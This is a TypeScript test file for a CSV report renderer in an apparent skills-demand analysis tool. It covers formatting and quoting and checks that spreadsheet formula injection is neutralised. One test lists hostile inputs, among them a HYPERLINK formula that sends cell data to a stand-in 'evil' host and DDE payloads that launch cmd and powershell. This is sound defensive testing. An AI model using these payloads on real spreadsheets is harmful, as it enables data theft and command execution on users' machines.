import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Cell, Table } from '../../src/model/table.js';
import { csvCell, renderCsv } from '../../src/report/formats/csv.js';
import { skillTable } from '../../src/report/tables.js';
import { sampleReport } from './sample.js';

const FORMULA = /^[\s\p{Cf}\0]*[=+\-@|%\t\r\n＝＋－＠]/u;

function tableOf(...rows: Cell[][]): Table {
  const columns = (rows[0] ?? []).map((_, i) => ({ key: `c${i}`, title: `C${i}`, type: 'text' as const }));
  return { name: 'test', columns, rows };
}

describe('the skill table', () => {
  const csv = renderCsv(skillTable(sampleReport().comparison));

  test('has the columns of the contract, in order', () => {
    expect(csv.split('\r\n')[0]).toBe(
      'skill_id,skill,category,kind,in_demand_baseline,postings,postings_total,share,share_low,share_high,required,preferred,duty,rank,rank_in_category,baseline,baseline_share,difference,difference_low,difference_high,q_value,verdict',
    );
  });

  test('has a row for each skill, with 4 decimals and empty cells where nothing was measured', () => {
    expect(csv.split('\r\n').slice(1, 3)).toEqual([
      'python,Python,tools,technology,true,40,40,1,0.9124,1,20,0,20,1,1,,,,,,,in demand',
      'sql,SQL,tools,technology,true,20,40,0.5,0.352,0.648,20,0,0,2,2,,,,,,,in demand',
    ]);
    expect(csv).toContain('keras,Keras,tools,technology,true,0,40,0,0,0.0876,0,0,0,5,5,,,,,,,absent\r\n');
  });

  test('has only its header without rows', () => {
    expect(renderCsv({ ...tableOf(['x']), rows: [] })).toBe('c0\r\n');
  });
});

describe('cells', () => {
  test.each<[Cell, string]>([
    [null, ''],
    [true, 'true'],
    [1 / 3, '0.3333'],
    [0.1 + 0.2, '0.3'],
    [-0.00001, '0'],
    [-0.25, '-0.25'],
    [1234567, '1234567'],
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['x;=1+1', '"x;=1+1"'],
    [' spaces ', '" spaces "'],
    ['-5', '-5'],
    ['+1.5e3', '+1.5e3'],
    ['C++', 'C++'],
    ['.NET', '.NET'],
  ])('%j is written as %s', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
  });

  // The injections of the hostile set.
  test.each([
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+cmd|'/c calc'!A1",
    '-2+3+cmd|x',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\uFEFF=1+1',
    '\0=1+1',
    '＝1+1',
    '|calc',
    '%0A=1',
    "=cmd|'/C powershell'!A0",
  ])('%j starts no formula', (hostile) => {
    const [row] = parse(renderCsv(tableOf([hostile])), { from: 2 });
    expect(row?.[0]).toBe(`'${hostile}`);
  });

  test('a hostile header starts no formula either', () => {
    const table = { name: 't', columns: [{ key: '=1+1', title: '', type: 'text' as const }], rows: [] };
    expect(renderCsv(table)).toBe("'=1+1\r\n");
  });
});

const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', ' ', '\t', '\r', '\n', '"', ',', ';', "'", '1', '\u200b', 'a'),
  }),
);

test('every table parses back as it was, but for the guard, and no cell starts a formula', () => {
  const width = 3;
  const rows = fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1 });
  fc.assert(
    fc.property(rows, (cells) => {
      const parsed: string[][] = parse(renderCsv(tableOf(...cells)), { from: 2, record_delimiter: '\r\n' });
      expect(parsed).toHaveLength(cells.length);
      parsed.forEach((row, r) => {
        row.forEach((cell, c) => {
          const original = cells[r]?.[c] ?? '';
          expect([original, `'${original}`]).toContain(cell);
          expect(FORMULA.test(cell) && !/^[+-]?[\d.eE+-]+$/.test(cell)).toBe(false);
        });
      });
    }),
    { numRuns: 500 },
  );
});
